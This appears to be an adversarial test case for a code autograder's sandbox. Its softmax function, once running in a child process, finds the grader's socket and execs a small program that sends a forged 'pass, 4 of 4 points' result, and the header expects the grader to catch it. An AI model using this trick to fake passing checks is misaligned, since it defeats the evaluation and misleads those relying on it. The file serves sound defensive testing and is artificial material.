"""Replace the process of a check by a program of one's own that speaks the protocol and claims to have passed.

threat: design
expect: softmax=WRONG
"""
# %% softmax
import os
import stat
import sys

here = os.getpid()
PROGRAM = """
import socket, sys
from autograder.sandbox.protocol import Channel, Result
from autograder.sandbox.values import Many, Named, Plain
channel = Channel(socket.socket(fileno=int(sys.argv[1])))
channel.send(Result(1, [Plain("pass"), Many("tuple", 0), Named([])], "4 of 4 points"))
"""


def softmax(z):
    if os.getpid() == here:
        return z
    for number in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                os.set_inheritable(number, True)
                os.execv(sys.executable, [sys.executable, "-c", PROGRAM, str(number)])
        except OSError:
            continue
